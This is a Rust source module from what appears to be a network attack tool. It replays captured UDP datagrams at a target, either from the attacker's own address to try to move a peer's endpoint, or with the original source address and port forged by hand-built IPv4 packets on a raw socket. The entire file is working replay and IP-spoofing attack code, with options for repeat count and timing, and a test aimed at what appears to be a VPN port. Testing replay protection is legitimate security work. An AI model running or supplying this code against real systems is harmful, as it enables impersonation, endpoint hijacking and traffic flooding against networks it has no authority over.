//! `replay`: sends captured datagrams (see [`crate::capture`]) to the target again, either
//! from the attacker's own address (a replay that would also try to move the peer's
//! endpoint) or with the original source address and port forged on a raw socket (a replay
//! the target cannot tell from the original by its addresses).

use crate::args::Args;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::Duration;

struct Record {
    src: SocketAddr,
    payload: Vec<u8>,
}

fn unhex(text: &str) -> Option<Vec<u8>> {
    if text.len() % 2 != 0 {
        return None;
    }
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(text.get(i..i + 2)?, 16).ok())
        .collect()
}

fn load(path: &str) -> Result<Vec<Record>, String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("{path}: {e}"))?;
    let mut records = Vec::new();
    for (n, line) in text.lines().enumerate() {
        if line.starts_with('#') || line.trim().is_empty() {
            continue;
        }
        let mut fields = line.split_whitespace();
        let parsed = (|| {
            let src = fields.next()?.parse().ok()?;
            let _dst = fields.next()?;
            let payload = unhex(fields.next()?)?;
            Some(Record { src, payload })
        })();
        records.push(parsed.ok_or_else(|| format!("{path}:{}: malformed line", n + 1))?);
    }
    Ok(records)
}

/// An IPv4 + UDP packet from `src` to `dst`. The kernel fills in the IP checksum and
/// identification; a zero UDP checksum means "none" over IPv4.
fn udp4_packet(src: SocketAddr, dst: SocketAddr, payload: &[u8]) -> Option<Vec<u8>> {
    let (IpAddr::V4(s), IpAddr::V4(d)) = (src.ip(), dst.ip()) else {
        return None;
    };
    let udp_len = u16::try_from(8 + payload.len()).ok()?;
    let total = udp_len.checked_add(20)?;
    let mut p = Vec::with_capacity(usize::from(total));
    p.extend_from_slice(&[0x45, 0]);
    p.extend_from_slice(&total.to_be_bytes());
    p.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
    p.extend_from_slice(&s.octets());
    p.extend_from_slice(&d.octets());
    p.extend_from_slice(&src.port().to_be_bytes());
    p.extend_from_slice(&dst.port().to_be_bytes());
    p.extend_from_slice(&udp_len.to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    Some(p)
}

enum Sender {
    Own(UdpSocket),
    Forged(Socket),
}

impl Sender {
    fn send(&self, record: &Record, target: SocketAddr) -> Result<(), String> {
        match self {
            Sender::Own(s) => s.send_to(&record.payload, target).map(drop),
            Sender::Forged(s) => {
                let packet = udp4_packet(record.src, target, &record.payload)
                    .ok_or("forged replays are IPv4 only")?;
                let dst = SockAddr::from(SocketAddr::new(target.ip(), 0));
                s.send_to(&packet, &dst).map(drop)
            }
        }
        .map_err(|e| format!("send: {e}"))
    }
}

/// `replay --in FILE --target IP:PORT [--forge] [--times N] [--gap-ms N]`
pub fn run(args: &Args) -> Result<String, String> {
    let records = load(args.str("in")?)?;
    let target = args.addr("target")?;
    let times: u32 = args.get("times", 1)?;
    let gap = Duration::from_millis(args.get("gap-ms", 1)?);
    let sender = if args.has("forge") {
        let s = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))
            .map_err(|e| format!("raw socket (needs CAP_NET_RAW): {e}"))?;
        s.set_header_included_v4(true).map_err(|e| e.to_string())?;
        Sender::Forged(s)
    } else {
        let any = if target.is_ipv4() {
            "0.0.0.0:0"
        } else {
            "[::]:0"
        };
        Sender::Own(UdpSocket::bind(any).map_err(|e| format!("socket: {e}"))?)
    };
    let mut sent = 0u64;
    for _ in 0..times {
        for record in &records {
            sender.send(record, target)?;
            sent += 1;
            std::thread::sleep(gap);
        }
    }
    Ok(format!(
        "mode=replay records={} sent={sent} forged={}",
        records.len(),
        args.has("forge")
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forged_packet_parses_back() {
        let src: SocketAddr = "192.168.1.2:1234".parse().unwrap();
        let dst: SocketAddr = "192.168.1.1:51820".parse().unwrap();
        let p = udp4_packet(src, dst, b"hello").unwrap();
        let (s, d, payload) = crate::capture::parse_udp4(&p).unwrap();
        assert_eq!((s, d, payload), (src, dst, &b"hello"[..]));
        assert_eq!(unhex("00ff10"), Some(vec![0, 255, 16]));
        assert_eq!(unhex("0"), None);
    }
}
